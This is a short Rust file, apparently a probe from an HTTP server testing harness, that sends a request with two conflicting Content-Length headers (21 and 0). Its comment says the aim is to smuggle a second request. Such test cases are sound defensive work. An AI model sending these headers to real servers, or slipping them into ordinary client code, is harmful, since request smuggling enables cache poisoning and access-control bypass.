//! Gives two lengths, to smuggle a second request.

use hostile::Ask;

hostile::report!(|machine_id, comment| {
    Ask::ordered(&machine_id, &comment)
        .header("content-length", "21")
        .header("content-length", "0")
        .send()
});
